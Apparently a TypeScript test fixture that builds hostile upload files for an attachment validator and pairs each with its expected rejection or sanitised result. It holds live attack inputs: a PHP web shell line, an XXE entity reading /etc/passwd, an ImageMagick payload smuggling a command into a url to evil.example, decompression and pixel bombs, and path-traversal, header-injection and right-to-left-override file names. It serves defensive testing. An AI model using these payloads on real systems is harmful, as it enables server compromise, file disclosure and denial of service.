// Files as strangers may send them, made here: each with what must become of it.
import { randomBytes } from 'node:crypto';
import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { somePdf, somePicture } from '../../testing/attach-one.ts';
import { someHeic } from './some-heic.ts';

/** A file and what becomes of it: refused with a code, or kept as a type without anything of its mark. */
export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly bytes: Uint8Array<ArrayBuffer>;
  readonly becomes: string;
  /** Its name afterwards, where that is another. */
  readonly named?: string;
  /** How many pixels wide and high it is kept. */
  readonly size?: readonly [number, number];
}

/** Stands in everything that is hidden in a file. */
export const MARK = 'WADUL-HIDDEN-7f3a';

const text = (content: string): Uint8Array<ArrayBuffer> => new TextEncoder().encode(content);
const join = (...parts: readonly Uint8Array[]): Uint8Array<ArrayBuffer> => new Uint8Array(Buffer.concat(parts));
const SCRIPT = `<script>alert("${MARK}")</script>`;
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${SCRIPT}</svg>`;
const PHP = `<?php system($_GET["${MARK}"]); ?>`;

const uint32 = (value: number): Uint8Array => new Uint8Array([value >>> 24, value >>> 16, value >>> 8, value]);
const chunk = (type: string, data: Uint8Array): Uint8Array => join(uint32(data.byteLength), text(type), data, uint32(crc32(join(text(type), data))));
const PNG_HEAD = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
/** A PNG that says it has these pixels, with as much data as it is given. */
const pngSaying = (width: number, height: number, data: Uint8Array): Uint8Array<ArrayBuffer> =>
  join(PNG_HEAD, chunk('IHDR', join(uint32(width), uint32(height), new Uint8Array([1, 0, 0, 0, 0]))), chunk('IDAT', deflateSync(data, { level: 9 })), chunk('IEND', new Uint8Array()));
/** A PNG with a chunk more before its end. */
const pngWith = (png: Uint8Array, type: string, data: Uint8Array): Uint8Array<ArrayBuffer> => join(png.subarray(0, -12), chunk(type, data), png.subarray(-12));
/** A JPEG with a segment more behind its beginning. */
const jpegWith = (jpeg: Uint8Array, marker: number, data: Uint8Array): Uint8Array<ArrayBuffer> =>
  join(jpeg.subarray(0, 2), new Uint8Array([0xff, marker, (data.byteLength + 2) >> 8, (data.byteLength + 2) & 255]), data, jpeg.subarray(2));
/** A ZIP of one file, as a reader finds it at the end of anything. */
const zip = (name: string, content: string): Uint8Array => {
  const [plain, label] = [text(content), text(name)];
  const packed = deflateRawSync(plain);
  const little = (value: number, bytes: number) => Uint8Array.from({ length: bytes }, (_, index) => (value >>> (8 * index)) & 255);
  const facts = join(little(8, 2), little(0, 4), little(crc32(plain), 4), little(packed.byteLength, 4), little(plain.byteLength, 4), little(label.byteLength, 2), little(0, 2));
  const local = join(text('PK\x03\x04'), little(20, 2), little(0, 2), facts, label, packed);
  const central = join(text('PK\x01\x02'), little(20, 2), little(20, 2), little(0, 2), facts, little(0, 2), little(0, 2), little(0, 2), little(0, 4), little(0, 4), label);
  return join(local, central, text('PK\x05\x06'), little(0, 4), little(1, 2), little(1, 2), little(central.byteLength, 4), little(local.byteLength, 4), little(0, 2));
};
const exifOf = (jpeg: Uint8Array, orientation: number): Promise<Buffer> =>
  sharp(jpeg).withExif({ IFD0: { ImageDescription: MARK, Orientation: String(orientation) }, IFD3: { GPSLatitude: '6/1 53/1 0/1', GPSLatitudeRef: 'S' } }).withMetadata({ orientation }).jpeg().toBuffer();

/** Every file of the corpus. */
export const hostileFiles = async (): Promise<HostileFile[]> => {
  const [jpeg, png, webp] = [await somePicture('jpeg'), await somePicture('png'), await somePicture('webp')];
  const [pdf, heic] = [somePdf(), someHeic()];
  const file = (what: string, name: string, bytes: Uint8Array, becomes: string, more: Partial<HostileFile> = {}): HostileFile => ({ what, name, bytes: new Uint8Array(bytes), becomes, ...more });
  const type = 'attachment.type';
  const extension = 'attachment.extension';
  const damaged = 'attachment.damaged';
  const pixels = 'attachment.tooManyPixels';
  const avif = new Uint8Array(await sharp(png).avif().toBuffer());

  const scripts = [
    file('SVG with script', 'gambar.svg', text(SVG), type),
    file('SVG that calls itself JPEG', 'gambar.jpg', text(SVG), type),
    file('SVG behind an XML declaration and blanks', 'gambar.png', text(`\n\n<?xml version="1.0"?>${SVG}`), type),
    file('SVG packed by gzip', 'gambar.svgz', gzipSync(SVG), type),
    file('HTML that calls itself JPEG', 'foto.jpg', text(HTML), type),
    file('HTML that calls itself PDF', 'surat.pdf', text(HTML), type),
    file('PHP that calls itself PNG', 'foto.png', text(PHP), type),
    file('JavaScript', 'a.js', text(`alert("${MARK}")`), type),
    file('a Windows program', 'setup.exe', join(text('MZ'), randomBytes(200)), type),
    file('a Windows program that calls itself a photo', 'foto.jpg', join(text('MZ'), randomBytes(200)), type),
    file('a Linux program', 'foto', join(text('\x7fELF'), randomBytes(200)), type),
    file('a shell script', 'surat.pdf', text(`#!/bin/sh\necho ${MARK}\n`), type),
  ];
  const others = [
    file('GIF', 'a.gif', text('GIF89a\x01\x00\x01\x00\x00\x00\x00;'), type),
    file('GIF that calls itself PNG and is a script', 'a.png', text(`GIF89a/*${MARK}*/=1;`), type),
    file('BMP', 'a.bmp', join(text('BM'), new Uint8Array(60)), type),
    file('TIFF', 'a.tiff', new Uint8Array(await sharp(png).tiff().toBuffer()), type),
    file('AVIF', 'a.avif', avif, type),
    file('AVIF that calls itself HEIC', 'a.heic', avif, type),
    file('a film in the container of HEIC', 'a.heic', join(uint32(24), text('ftypmp42'), new Uint8Array(200)), type),
    file('a Windows icon', 'a.ico', new Uint8Array([0, 0, 1, 0, 1, 0, 16, 16]), type),
    file('ZIP', 'a.zip', zip('a.txt', MARK), type),
    file('a document of Word', 'surat.docx', zip('word/document.xml', MARK), type),
    file('ZIP that calls itself PDF', 'surat.pdf', zip('a.txt', MARK), type),
    file('a bomb of gzip', 'foto.jpg', gzipSync(Buffer.alloc(20_000_000)), type),
    file('PostScript', 'a.pdf', text('%!PS-Adobe-3.0\n'), type),
    file('XML that opens a file of the server', 'a.jpg', text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), type),
    file('a program for ImageMagick', 'a.png', text('push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://evil.example/"|id")\'\npop graphic-context'), type),
    file('random bytes', 'foto.jpg', randomBytes(5_000), type),
    file('one byte', 'foto.jpg', new Uint8Array([0xff]), type),
    file('zeros', 'foto.jpg', new Uint8Array(5_000), type),
  ];
  const extensions = [
    file('a PNG that calls itself JPEG', 'foto.jpg', png, extension),
    file('a JPEG that calls itself PDF', 'surat.pdf', jpeg, extension),
    file('a PDF that calls itself JPEG', 'foto.jpg', pdf, extension),
    file('a photo that calls itself a program', 'foto.jpg.exe', jpeg, extension),
    file('a photo that calls itself PHP', 'foto.php', jpeg, extension),
    file('a PDF that calls itself HTML', 'surat.pdf.html', pdf, extension),
    file('a program whose name is written backwards', 'foto\u202egpj.exe', jpeg, extension),
    file('an extension behind a NUL', 'foto.jpg\0.svg', jpeg, extension),
    file('an extension behind blanks', `foto.jpg${' '.repeat(200)}.hta`, jpeg, extension),
  ];
  const names = [
    file('no extension', 'foto', jpeg, 'image/jpeg', { named: 'foto' }),
    file('two extensions, the last of them right', 'surat.php.jpg', jpeg, 'image/jpeg', { named: 'surat.php.jpg' }),
    file('an extension in capitals', 'FOTO.JPG', jpeg, 'image/jpeg'),
    file('a path up', '../../../etc/cron.d/foto.jpg', jpeg, 'image/jpeg', { named: 'foto.jpg' }),
    file('a path of Windows', 'C:\\Users\\Siti\\foto.jpg', jpeg, 'image/jpeg', { named: 'foto.jpg' }),
    file('control characters', 'fo\r\nSet-Cookie: a=b\u0007to.jpg', jpeg, 'image/jpeg', { named: 'foSet-Cookie_ a=bto.jpg' }),
    file('a name from right to left', '\u202eotof\u2066.jpg', jpeg, 'image/jpeg', { named: 'otof.jpg' }),
    file('markup', '<img src=x onerror=alert(1)>.png', png, 'image/png', { named: '_img src=x onerror=alert(1)_.png' }),
    file('dots at its end', 'foto.jpg. . .', jpeg, 'image/jpeg', { named: 'foto.jpg' }),
    file('nothing but dots', '...', jpeg, 'image/jpeg', { named: '' }),
    file('no name', '', pdf, 'application/pdf', { named: '' }),
    file('a name of ten thousand letters', `${'a'.repeat(3_000)}.jpg`, jpeg, 'image/jpeg', { named: `${'a'.repeat(96)}.jpg` }),
    file('invisible letters', 'fo\u200bto\ufeff.jpg', jpeg, 'image/jpeg', { named: 'foto.jpg' }),
  ];
  const hidden = [
    file('HTML behind a JPEG', 'a.jpg', join(jpeg, text(HTML)), 'image/jpeg'),
    file('PHP behind a PNG', 'a.png', join(png, text(PHP)), 'image/png'),
    file('an archive of Java behind a JPEG (GIFAR)', 'a.jpg', join(jpeg, zip(`${MARK}.class`, MARK)), 'image/jpeg'),
    file('an archive behind a WebP', 'a.webp', join(webp, zip(MARK, MARK)), 'image/webp'),
    file('HTML in a comment of a JPEG', 'a.jpg', jpegWith(jpeg, 0xfe, text(HTML)), 'image/jpeg'),
    file('PHP in a segment of a JPEG', 'a.jpg', jpegWith(jpeg, 0xed, text(`Photoshop 3.0\0${PHP}`)), 'image/jpeg'),
    file('XMP in a JPEG', 'a.jpg', jpegWith(jpeg, 0xe1, text(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${MARK}</x:xmpmeta>`)), 'image/jpeg'),
    file('a text in a PNG', 'a.png', pngWith(png, 'tEXt', text(`Comment\0${SCRIPT}`)), 'image/png'),
    file('EXIF in a PNG', 'a.png', pngWith(png, 'eXIf', join(text('MM\0*\0\0\0\x08\0\0'), text(MARK))), 'image/png'),
    file('a private chunk in a PNG', 'a.png', pngWith(png, 'waDl', text(SCRIPT)), 'image/png'),
    file('a place in EXIF, and a picture lying on its side', 'a.jpg', await exifOf(jpeg, 6), 'image/jpeg', { size: [48, 64] }),
    file('a photo of a phone', 'IMG_0001.HEIC', heic, 'image/jpeg', { size: [64, 48] }),
    file('a photo of a phone with something behind', 'a.heic', join(heic, text(HTML)), 'image/jpeg'),
  ];
  const broken = [
    file('a JPEG that breaks off', 'a.jpg', (await somePicture('jpeg', [800, 600])).subarray(0, 2_500), damaged),
    file('a PNG that breaks off', 'a.png', png.subarray(0, 60), damaged),
    file('a WebP that breaks off', 'a.webp', webp.subarray(0, 40), damaged),
    file('a HEIC that breaks off', 'a.heic', heic.subarray(0, heic.byteLength - 100), damaged),
    file('a HEIC that has nothing but its head', 'a.heic', heic.subarray(0, 40), damaged),
    file('the first bytes of a JPEG before HTML', 'a.jpg', join(new Uint8Array([0xff, 0xd8, 0xff, 0xe0]), text(HTML)), damaged),
    file('the first bytes of a PNG before SVG', 'a.png', join(PNG_HEAD, text(SVG)), damaged),
    file('the first bytes of a WebP before HTML', 'a.webp', join(text('RIFF\xff\xff\0\0').slice(0, 8), text('WEBP'), text(HTML)), damaged),
    file('a PDF that breaks off', 'a.pdf', pdf.subarray(0, -20), damaged),
    file('a PDF with an archive behind it', 'a.pdf', join(pdf, zip('a.txt', MARK)), damaged),
    file('a PDF with HTML behind it', 'a.pdf', join(pdf, text(HTML)), damaged),
    file('HTML before a PDF', 'a.pdf', join(text(HTML), pdf), type),
    file('a PDF in name only', 'a.pdf', text('%PDF-1.7\n'), damaged),
  ];
  const bombs = [
    file('a PNG of 144 million pixels in a few kilobytes', 'a.png', pngSaying(12_000, 12_000, Buffer.alloc(12_000 * 1_501)), pixels),
    file('a PNG of four thousand million pixels', 'a.png', pngSaying(65_000, 65_000, Buffer.alloc(10)), pixels),
    file('a PNG one pixel high and a hundred million wide', 'a.png', pngSaying(100_000_000, 1, Buffer.alloc(10)), pixels),
    file('a JPEG of 3,600 million pixels', 'a.jpg', (() => {
      const changed = new Uint8Array(jpeg);
      const frame = Buffer.from(changed).indexOf(Buffer.from([0xff, 0xc0]));
      changed.set([0xea, 0x60, 0xea, 0x60], frame + 5);
      return changed;
    })(), pixels),
    file('a WebP of 16,383 by 16,383 pixels', 'a.webp', await sharp({ create: { width: 16_383, height: 16_383, channels: 3, background: '#000000' } }).webp({ lossless: true, effort: 0 }).toBuffer(), pixels),
  ];
  return [...scripts, ...others, ...extensions, ...names, ...hidden, ...broken, ...bombs];
};
